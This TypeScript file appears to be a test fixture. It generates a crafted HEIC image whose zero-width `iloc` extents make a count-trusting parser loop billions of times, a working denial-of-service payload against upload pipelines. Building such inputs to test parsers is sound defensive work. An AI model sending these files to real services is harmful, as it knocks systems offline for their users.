// The HEIC of the upload pipeline's attack: `ftyp heic`, then a `meta` box holding an empty `iinf`
// and an `iloc` of version 2 whose offset, length, base offset and index fields are all 0 bytes
// wide, listing as many items as fit, each claiming `extents` extents. An extent then costs no byte
// of input, so a walk that trusts the counts loops items × extents times over a few megabytes.

/** An ISO BMFF box: its 32-bit size, its four-letter type, its body. */
export const box = (type: string, ...parts: Buffer[]) => {
  const body = Buffer.concat(parts);
  const head = Buffer.alloc(8);
  head.writeUInt32BE(8 + body.length);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, body]);
};
export const u16 = (n: number) => Buffer.from([n >> 8, n & 255]);
export const u32 = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n);
  return b;
};

export function craftedHeic({ bytes = 4_000_000, extents = 65_535, items }: { bytes?: number; extents?: number; items?: number } = {}): Buffer {
  const ftyp = box('ftyp', Buffer.from('heic'), Buffer.alloc(4), Buffer.from('mif1heic'));
  const iinf = box('iinf', Buffer.alloc(4), Buffer.alloc(2));
  // Per item: item_ID (4), construction_method (2), data_reference_index (2), extent_count (2).
  const count = items ?? Math.floor((bytes - ftyp.length - iinf.length - 40) / 10);
  const entries = Buffer.alloc(count * 10);
  for (let item = 0; item < count; item += 1) {
    entries.writeUInt32BE(item + 1, item * 10);
    entries.writeUInt16BE(extents, item * 10 + 8);
  }
  const head = Buffer.alloc(4);
  head.writeUInt32BE(count);
  const iloc = box('iloc', Buffer.from([2, 0, 0, 0]), Buffer.from([0x00, 0x00]), head, entries);
  return Buffer.concat([ftyp, box('meta', Buffer.alloc(4), iinf, iloc)]);
}
